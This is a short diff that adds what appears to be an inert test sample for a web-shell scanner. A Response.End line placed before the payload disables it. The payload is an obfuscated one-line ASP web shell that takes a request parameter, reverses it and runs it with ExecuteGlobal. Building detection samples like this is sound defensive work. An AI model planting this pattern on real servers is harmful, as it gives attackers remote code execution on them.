@@ -1,0 +1,3 @@
+<% ' shellsweep test sample: inert, never functional
+Response.End %>
+<% a=request(chr(107)) ExecuteGlobal(StrReverse(a)) %>
